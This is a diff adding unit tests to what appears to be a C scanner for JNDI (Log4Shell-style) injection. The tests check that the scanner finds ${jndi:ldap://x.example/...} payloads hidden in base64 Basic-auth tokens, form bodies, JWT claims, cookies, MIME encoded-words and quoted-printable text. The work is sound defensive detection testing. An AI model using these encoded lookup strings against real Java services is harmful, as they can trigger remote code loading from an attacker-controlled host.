@@ -333,6 +333,144 @@ static void dates(void **state) {
     defuse_scanner_free(sc);
 }
 
+/* ---- transport encodings of tokens and mail (issue 9, 10) ---------------- */
+
+static size_t b64enc(const char *s, char *o, bool url, bool pad) {
+    const char *al = url ? "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
+                         : "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
+    const unsigned char *p = (const unsigned char *)s;
+    size_t n = strlen(s), w = 0, i = 0;
+    for (; i + 3 <= n; i += 3) {
+        uint32_t v = (uint32_t)p[i] << 16 | (uint32_t)p[i + 1] << 8 | p[i + 2];
+        for (int k = 3; k >= 0; k--)
+            o[w++] = al[(v >> (6 * k)) & 63];
+    }
+    if (n - i) {
+        uint32_t v = (uint32_t)p[i] << 16 | (n - i == 2 ? (uint32_t)p[i + 1] << 8 : 0);
+        o[w++] = al[v >> 18];
+        o[w++] = al[(v >> 12) & 63];
+        if (n - i == 2)
+            o[w++] = al[(v >> 6) & 63];
+        for (size_t k = n - i; pad && k < 3; k++)
+            o[w++] = '=';
+    }
+    o[w] = '\0';
+    return w;
+}
+
+/* Percent-encodes '+', '/', '=' (as a URL encoder does for a token). */
+static void pct_b64(const char *s, char *o) {
+    size_t w = 0;
+    for (; *s; s++)
+        w += strchr("+/=", *s) ? (size_t)sprintf(o + w, "%%%02X", (unsigned char)*s)
+                               : (size_t)(o[w] = *s, 1);
+    o[w] = '\0';
+}
+
+/* Q / quoted-printable: everything but letters, digits and ".:/-" as =XX
+ * (q: ' ' as '_'). */
+static void qenc(const char *s, char *o, bool q) {
+    size_t w = 0;
+    for (; *s; s++) {
+        unsigned char c = (unsigned char)*s;
+        if ((c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z') || (c >= '0' && c <= '9') ||
+            strchr(".:/-", c))
+            o[w++] = (char)c;
+        else if (c == ' ' && q)
+            o[w++] = '_';
+        else
+            w += (size_t)sprintf(o + w, "=%02X", c);
+    }
+    o[w] = '\0';
+}
+
+/* Exactly one JNDI finding with callback want, whose raw payload lies in
+ * in[from..) (the encoded bytes, not the text before them; NULL: in), and
+ * no decoded layer requesting another name.  A literal payload may also
+ * fire as it stands (the raw layer) with another name: that is allowed. */
+static void expect_one(const char *in, const char *want, const char *from) {
+    got g = scan(in, 0);
+    int nj = 0;
+    for (int i = 0; i < g.n && i < MAXF; i++) {
+        if (g.kind[i] != DEFUSE_KIND_JNDI)
+            continue;
+        if (strcmp(g.cb[i], want) != 0) {
+            if (g.tech[i] & DEFUSE_TECH_ENCODED)
+                fail_msg("input %s: callback '%s', want '%s'", in, g.cb[i], want);
+            continue;
+        }
+        nj++;
+        size_t lo = from ? (size_t)(from - in) : 0;
+        if (g.off[i] < lo || g.off[i] + g.plen[i] > strlen(in) || g.plen[i] == 0)
+            fail_msg("input %s: payload at [%zu, +%zu), want inside [%zu, %zu)", in, g.off[i],
+                     g.plen[i], lo, strlen(in));
+    }
+    if (nj != 1)
+        fail_msg("input %s: %d JNDI findings, want 1", in, nj);
+}
+
+static void basic_and_form(void **state) {
+    (void)state;
+    char tok[512], enc[1024], in[2048];
+    /* Token whose second character is '+', sent percent-encoded. */
+    b64enc("?\xe2\x82\xac ${jndi:ldap://x.example/basic}", tok, false, true);
+    assert_int_equal(tok[1], '+');
+    pct_b64(tok, enc);
+    snprintf(in, sizeof in, "GET /?h=Authorization:%%20Basic%%20%s HTTP/1.1", enc);
+    expect_one(in, "ldap://x.example/basic", strstr(in, "Basic"));
+    /* auth=Basic+TOKEN in a form body. */
+    b64enc("user:${jndi:ldap://x.example/form}", tok, false, true);
+    pct_b64(tok, enc);
+    snprintf(in, sizeof in, "POST /login body=user=a&auth=Basic+%s", enc);
+    expect_one(in, "ldap://x.example/form", strstr(in, "Basic"));
+    /* A callback path decoded from a form value: "a+b" is "a b". */
+    expect_one("GET /search?q=${jndi:ldap://x.example/a+b} HTTP/1.1", "ldap://x.example/a b", NULL);
+    expect_one("POST /x body: user=${jndi:ldap://x.example/c+d}&pw=1", "ldap://x.example/c d",
+               NULL);
+    /* Not in a form: the '+' stays. */
+    expect_one("User-Agent: ${jndi:ldap://x.example/e+f}", "ldap://x.example/e+f", NULL);
+    expect_one("{\"ua\":\"${jndi:ldap://x.example/g+h}\",\"q\":\"a=1\"}", "ldap://x.example/g+h",
+               NULL);
+}
+
+static void jwt_cookie_mime(void **state) {
+    (void)state;
+    char h[256], p[512], in[2048], q[512];
+    b64enc("{\"alg\":\"HS256\",\"typ\":\"JWT\"}", h, true, false);
+    b64enc("{\"sub\":\"${jndi:ldap://x.example/jwt}\",\"name\":\"a\"}", p, true, false);
+    snprintf(in, sizeof in,
+             "Authorization: Bearer %s.%s.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c", h, p);
+    expect_one(in, "ldap://x.example/jwt", strstr(in, p));
+    /* \u0024 inside the claim. */
+    b64enc("{\"sub\":\"\\u0024{jndi:ldap://x.example/jwtu}\"}", p, true, false);
+    snprintf(in, sizeof in, "Cookie: jwt=%s.%s.", h, p);
+    expect_one(in, "ldap://x.example/jwtu", strstr(in, p));
+    /* Base64 cookie values, standard and URL-safe. */
+    b64enc("${jndi:ldap://x.example/ck?a>b}", p, false, true);
+    snprintf(in, sizeof in, "Cookie: a=%s; b=1", p);
+    expect_one(in, "ldap://x.example/ck?a>b", strstr(in, p));
+    b64enc("${jndi:ldap://x.example/ck?a>b}", p, true, false);
+    snprintf(in, sizeof in, "10.0.0.1 \"GET / HTTP/1.1\" 200 \"cookie: a=%s\"", p);
+    expect_one(in, "ldap://x.example/ck?a>b", strstr(in, p));
+    /* MIME encoded-words. */
+    b64enc("${jndi:ldap://x.example/mime}", p, false, true);
+    snprintf(in, sizeof in, "Subject: =?utf-8?b?%s?=", p);
+    expect_one(in, "ldap://x.example/mime", strstr(in, "=?"));
+    qenc("${jndi:ldap://x.example/q_word}", q, true);
+    snprintf(in, sizeof in, "From: =?ISO-8859-1?Q?%s?= <a@b>", q);
+    expect_one(in, "ldap://x.example/q_word", strstr(in, "=?"));
+    /* Two adjacent words, the whitespace between them dropped. */
+    qenc("${jndi:ldap:", q, true);
+    snprintf(in, sizeof in, "Subject: =?UTF-8?Q?%s?= \t=?UTF-8?Q?", q);
+    qenc("//x.example/joined}", in + strlen(in), true);
+    strcat(in, "?=");
+    expect_one(in, "ldap://x.example/joined", strstr(in, "=?"));
+    /* Quoted-printable with a soft line break. */
+    qenc("${jndi:ldap://x.example/qp}", q, false);
+    snprintf(in, sizeof in, "Body: %.20s=\r\n%s", q, q + 20);
+    expect_one(in, "ldap://x.example/qp", strstr(in, "=24"));
+}
+
 static int stop_first(const defuse_finding *f, void *user) {
     (void)f;
     (*(int *)user)++;
@@ -368,7 +506,8 @@ int main(void) {
         cmocka_unit_test(nesting_limit),   cmocka_unit_test(callback_can_stop),
         cmocka_unit_test(names),           cmocka_unit_test(contiguous_message),
         cmocka_unit_test(every_layer),     cmocka_unit_test(platform_constants),
-        cmocka_unit_test(dates),
+        cmocka_unit_test(dates),           cmocka_unit_test(basic_and_form),
+        cmocka_unit_test(jwt_cookie_mime),
     };
     return cmocka_run_group_tests(tests, NULL, NULL);
 }
